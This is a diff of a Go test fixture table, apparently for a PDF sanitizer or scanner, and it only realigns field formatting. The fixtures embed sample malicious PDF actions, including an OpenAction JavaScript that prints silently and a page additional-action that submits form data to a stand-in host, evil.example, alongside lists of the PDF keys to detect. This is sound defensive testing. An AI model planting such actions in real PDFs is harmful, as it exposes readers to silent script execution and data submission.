@@ -66,13 +66,13 @@ func fixtures() []fixture {
 			inInput: []string{"/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment"},
 		},
 		{
-			name: "openaction-js",
-			doc: fx.Doc{Root: 1, Objs: fx.Page("x", "/OpenAction <</S /JavaScript /JS (this.print\\({bUI:false}\\))>>", "")},
+			name:    "openaction-js",
+			doc:     fx.Doc{Root: 1, Objs: fx.Page("x", "/OpenAction <</S /JavaScript /JS (this.print\\({bUI:false}\\))>>", "")},
 			inInput: []string{"/JavaScript", "/JS", "/OpenAction"},
 		},
 		{
-			name: "page-aa",
-			doc: fx.Doc{Root: 1, ObjStm: true, Objs: fx.Page("x", "", "/AA <</O <</S /JavaScript /JS 6 0 R>> /C <</S /SubmitForm /F (http://evil.example/)>>>>")},
+			name:    "page-aa",
+			doc:     fx.Doc{Root: 1, ObjStm: true, Objs: fx.Page("x", "", "/AA <</O <</S /JavaScript /JS 6 0 R>> /C <</S /SubmitForm /F (http://evil.example/)>>>>")},
 			inInput: []string{"/AA", "/JavaScript", "/JS", "/SubmitForm"},
 		},
 		{
